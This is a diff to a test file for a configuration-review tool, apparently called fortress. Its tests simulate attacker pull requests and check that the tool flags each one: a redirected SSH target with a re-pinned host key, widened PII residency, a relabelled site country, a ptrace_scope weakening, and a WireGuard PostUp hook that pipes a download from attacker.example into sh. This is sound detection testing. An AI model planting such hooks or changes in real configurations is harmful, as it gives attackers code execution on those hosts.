@@ -6,7 +6,7 @@ import type { Review } from '../../src/review/buildReview.js';
 import { TempRepo } from '../support/tempRepo.js';
 
 // A real WireGuard public key (public keys are fine to commit; private keys never are).
-const NEW_KEY = 'cIv7vYRC5tlhxZxDRm8B5TfVGXhMgOVkr8WEg2HA2Wc=';
+const NEW_KEY = 'qXPt2KckilwAAj+YmSuh/utYaTP0DgcKNDOlghIq2Ec=';
 
 let repo: TempRepo;
 
@@ -159,6 +159,119 @@ describe('fortress diff: sides, formats and exit codes', () => {
     const review = JSON.parse((await repo.run('diff', '--base', empty, '--format', 'json')).stdout) as Review;
     expect(review.base).toBe(`${empty} (no topology)`);
     expect(review.counts.added).toBe(5);
-    expect(await repo.run('diff', '--base', 'no-such-branch')).toMatchObject({ code: 2, stderr: 'fortress: --base no-such-branch is not a commit in this repository (fetch it first, e.g. git fetch origin)\n' });
+    expect(await repo.run('diff', '--base', 'no-such-branch')).toMatchObject({ code: 2, stderr: 'fortress: error FT511: --base no-such-branch is not a commit in this repository (fetch it first, e.g. git fetch origin)\n' });
+  });
+});
+
+// Pull requests an attacker would try: each changes what apply or policy does while rendering no file
+// (or rendering files that no topology change explains), and each must reach the reviewer as a flag.
+describe('fortress diff --base: changes that render no file, or files no topology explains', () => {
+  const OTHER_HOST_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIF+4Of9fsl8AWHgJ1B3TQjjmf5TC8tJ8zGQQ7lv+kkU';
+
+  /** Commits the change and returns the markdown comment and the JSON review of HEAD~1..HEAD. */
+  async function reviewBoth(edit: (topology: string) => string): Promise<{ review: Review; markdown: string }> {
+    const review = await reviewChange(edit);
+    const markdown = await repo.run('diff', '--base', 'HEAD~1', '--format', 'markdown');
+    expect(markdown.code).toBe(0);
+    return { review, markdown: markdown.stdout };
+  }
+
+  test("re-pointing a hub's SSH target and re-pinning its host key", async () => {
+    const { review, markdown } = await reviewBoth((t) =>
+      t.replace(
+        /ssh: \{ address: 192\.0\.2\.10, user: deploy, port: 22, hostKey: "[^"]+" \}/,
+        `ssh: { address: 203.0.113.66, user: root, port: 2222, hostKey: "${OTHER_HOST_KEY}" }`,
+      ),
+    );
+    expect(review.hosts.map((h) => h.host)).toEqual(['oslo-db-01']);
+    expect(hostOf(review, 'oslo-db-01')!.summary).toEqual([
+      'SSH target deploy@192.0.2.10:22 → root@203.0.113.66:2222',
+      expect.stringMatching(/^SSH host key pin ssh-ed25519 SHA256:\S+ → ssh-ed25519 SHA256:\S+$/),
+    ]);
+    expect(hostOf(review, 'oslo-db-01')!.files).toEqual([]);
+    expect(risks(review)).toEqual(['ssh-target-changes', 'host-key-changes']);
+    expect(review.risks[0]!.message).toBe('apply connects somewhere else: oslo-db-01 SSH target deploy@192.0.2.10:22 → root@203.0.113.66:2222');
+    expect(markdown).not.toContain('No change');
+    expect(markdown).toContain('⚠️ apply trusts another machine: oslo-db-01');
+  });
+
+  test('widening policy.residency.pii', async () => {
+    const { review, markdown } = await reviewBoth((t) => t.replace('pii: [NO]', 'pii: [NO, DE, US]'));
+    expect(review.policy).toEqual(['residency of pii: NO → DE, NO, US']);
+    expect(review.risks).toEqual([{ code: 'residency-widened', message: 'residency widened: pii may now also be stored in DE, US (was NO)' }]);
+    expect(markdown).toContain('**Policy:** residency of pii: NO → DE, NO, US');
+  });
+
+  test('relabelling the frankfurt site as Norway, then storing personal data there', async () => {
+    const { review, markdown } = await reviewBoth((t) =>
+      t
+        .replace('region: eu-central-1, country: DE', 'region: eu-central-1, country: NO')
+        .replace('  fra-app-01:                 # the Fleet: stateless app nodes with HAProxy in front of the database\n    site: frankfurt\n', '  fra-app-01:\n    site: frankfurt\n    stores: [pii]\n'),
+    );
+    expect(review.sites.find((s) => s.site === 'frankfurt')!.summary).toEqual(['country DE → NO']);
+    expect(risks(review)).toContain('site-country-changes');
+    expect(review.risks.find((r) => r.code === 'site-country-changes')!.message).toBe(
+      'site frankfurt changes country DE → NO (aws eu-central-1 → aws eu-central-1): residency is judged by this label, so check where the machines really are; fra-app-01 stores pii',
+    );
+    expect(risks(review)).toContain('personal-data-moves');
+    expect(markdown).toContain('<code>frankfurt</code> country DE → NO');
+  });
+
+  test('rendered files that change without a topology change: a template edited and re-rendered', async () => {
+    // What a pull request that edits wg0.conf.hbs and re-renders commits: five wg0.conf files change and
+    // the topology does not. Both sides compile to the same files with the pull request's own fortress.
+    const git = simpleGit({ baseDir: repo.dir });
+    const configs = (await git.raw(['ls-files', 'rendered/hosts'])).split('\n').filter((p) => p.endsWith('/wg0.conf'));
+    expect(configs).toHaveLength(5);
+    for (const path of configs) repo.write(path, repo.read(path).replace('[Interface]\n', '[Interface]\nPostUp = curl -s https://attacker.example/x | sh\n'));
+    await git.add('.').commit('tidy the template');
+
+    const json = await repo.run('diff', '--base', 'HEAD~1', '--format', 'json');
+    expect(json.code).toBe(0);
+    const review = JSON.parse(json.stdout) as Review;
+    expect(review.hosts).toEqual([]);
+    expect(review.renderedWithoutTopologyChange.map((f) => `rendered/${f.path}`).sort()).toEqual(configs.sort());
+    expect(risks(review)).toEqual(['rendered-without-topology-change']);
+    expect(review.risks[0]!.message).toMatch(/^5 rendered files \(fra-app-01, fra-app-02, lon-app-01, oslo-db-01, oslo-db-02\) change without a topology change/);
+
+    const markdown = (await repo.run('diff', '--base', 'HEAD~1', '--format', 'markdown')).stdout;
+    expect(markdown).not.toContain('No change');
+    expect(markdown).toContain('rendered without a topology change');
+    expect(markdown).toContain('+PostUp = curl -s https://attacker.example/x | sh');
+    const text = (await repo.run('diff', '--base', 'HEAD~1')).stdout;
+    expect(text).toContain('+PostUp = curl -s https://attacker.example/x | sh');
+  });
+
+  test('an older fortress rendered the base: the new output is shown as not explained by the topology', async () => {
+    // The reverse order: the base commit holds output of a different template, the head the current one.
+    const git = simpleGit({ baseDir: repo.dir });
+    const path = 'rendered/hosts/oslo-db-01/etc/sysctl.d/90-fortress.conf';
+    const current = repo.read(path);
+    repo.write(path, current.replace(/\n$/, '\nkernel.old_setting = 1\n'));
+    await git.add('.').commit('rendered by an older fortress');
+    repo.write(path, current);
+    repo.write('topology/topology.yaml', repo.read('topology/topology.yaml').replace('vm.swappiness: 10', 'vm.swappiness: 5'));
+    expect((await repo.run('render')).code).toBe(0);
+    await git.add('.').commit('a change, rendered by this fortress');
+
+    const review = JSON.parse((await repo.run('diff', '--base', 'HEAD~1', '--format', 'json')).stdout) as Review;
+    expect(hostOf(review, 'oslo-db-01')!.summary).toEqual(['sysctl vm.swappiness 10 → 5']);
+    expect(review.renderedWithoutTopologyChange.map((f) => `rendered/${f.path}`)).toEqual([path]);
+    expect(review.renderedWithoutTopologyChange[0]!.patch).toContain('-kernel.old_setting = 1');
+    expect(risks(review)).toEqual(['rendered-without-topology-change']);
+  });
+
+  test('a kernel setting that weakens the host, opted in: flagged', async () => {
+    const review = await reviewChange((t) =>
+      t.replace('sysctl:\n  defaults:\n', 'sysctl:\n  allowSensitive: [kernel.yama.ptrace_scope]\n  defaults:\n').replace('sysctl: { vm.swappiness: 10 }', 'sysctl: { vm.swappiness: 10, kernel.yama.ptrace_scope: 0 }'),
+    );
+    expect(hostOf(review, 'oslo-db-01')!.summary).toEqual(['sysctl kernel.yama.ptrace_scope = 0 added']);
+    expect(review.risks).toEqual([{ code: 'sensitive-sysctl', message: 'oslo-db-01 sets kernel settings that can weaken the host: kernel.yama.ptrace_scope = 0' }]);
+  });
+
+  test('an honest topology change is explained: no rendered-without-topology-change flag', async () => {
+    const review = await reviewChange((t) => t.replace('vm.swappiness: 10', 'vm.swappiness: 5'));
+    expect(review.renderedWithoutTopologyChange).toEqual([]);
+    expect(risks(review)).toEqual([]);
   });
 });
